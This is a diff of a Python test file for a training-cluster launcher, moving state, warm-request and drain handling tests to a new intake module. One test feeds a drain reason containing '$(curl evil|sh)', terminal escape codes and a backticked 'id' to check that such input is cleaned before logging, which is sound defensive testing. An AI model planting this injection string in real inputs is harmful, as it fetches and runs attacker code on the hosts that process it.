@@ -18,7 +18,7 @@ from dynatrain_runtime.contract import protocol
 from dynatrain_runtime.contract import shared_volume as sv
 from dynatrain_runtime.contract.checkpoint import CheckpointError, CheckpointStore, NoValidCheckpoint
 from dynatrain_runtime.launcher import loop, parse_args
-from dynatrain_runtime.launcher import generation
+from dynatrain_runtime.launcher import generation, intake
 from dynatrain_runtime.launcher.generation import Generation
 from dynatrain_runtime.launcher.membership import Membership
 
@@ -106,9 +106,9 @@ def test_any_launcher_state_lets_the_launcher_start(tmp_path, content):
     finally:
         for sig, handler in handlers.items():
             signal.signal(sig, handler)
-    assert la.gen_counter == 0 and la.membership == [A, M]
+    assert la.intake.gen_counter == 0 and la.membership == [A, M]
     write(tmp_path / "control" / "launcher_state.json", b'{"generation": 7}')
-    assert loop.saved_generation(str(tmp_path / "control" / "launcher_state.json")) == 7
+    assert intake.saved_generation(str(tmp_path / "control" / "launcher_state.json")) == 7
 
 
 def test_a_heartbeat_with_a_string_step_is_skipped(tmp_path):
@@ -141,10 +141,10 @@ def test_warm_requests_are_capped(tmp_path):
     la.event = lambda name, **fields: events.append((name, fields))
     for i in range(40):
         sv.write_warm_request(la.files, f"10.1.0.{i + 1}")
-    la._take_warm_requests(la.gen, 0.0)
-    assert len(started) == 8                                        # loop.MAX_WARM_REQUESTS
+    la.intake.take_warm_requests(la.gen, 0.0)
+    assert len(started) == 8                                        # intake.MAX_WARM_REQUESTS
     assert [name for name, _f in events].count("warm_requests_capped") == 1
-    la._take_warm_requests(la.gen, 1.0)
+    la.intake.take_warm_requests(la.gen, 1.0)
     assert len(started) == 8                                        # said once, started once
 
 
@@ -155,7 +155,7 @@ def test_a_drain_reason_reaches_the_records_cleaned(tmp_path):
     reason = "$(curl evil|sh)\n\x1b[31m`id`" + "A" * 10000
     sv.write_json(os.path.join(sv.drain_dir(la.files), f"{A}.json"),
                   {"ip": A, "reason": reason, "notice": {"nested": ["x"]}, "time": "yesterday"})
-    la._take_drains(la.gen)
+    la.intake.take_drains(la.gen)
     (name, fields), = [e for e in events if e[0] == "drain_requested"]
     assert len(fields["reason"]) <= 200 and fields["reason"].isprintable()
     assert isinstance(fields["notice"], str) and fields["requested_at"] is None
@@ -167,7 +167,7 @@ def test_a_drain_reason_reaches_the_records_cleaned(tmp_path):
 def test_fuzz_launcher_state(tmp_path_factory, content):
     path = tmp_path_factory.mktemp("state") / "launcher_state.json"
     write(path, content)
-    value = loop.saved_generation(str(path))
+    value = intake.saved_generation(str(path))
     assert isinstance(value, int) and value >= 0
 
 
@@ -219,8 +219,8 @@ def test_fuzz_requests(tmp_path_factory, content, name):
     for read in (sv.read_drain_requests, sv.read_warm_requests):
         for ip, req in read(la.files).items():
             assert sv.validate_ip(ip) == ip and isinstance(req, dict)
-    la._take_drains(la.gen)
-    la._take_warm_requests(la.gen, 0.0)
+    la.intake.take_drains(la.gen)
+    la.intake.take_warm_requests(la.gen, 0.0)
     sv.read_stop_request(la.files)
 
 
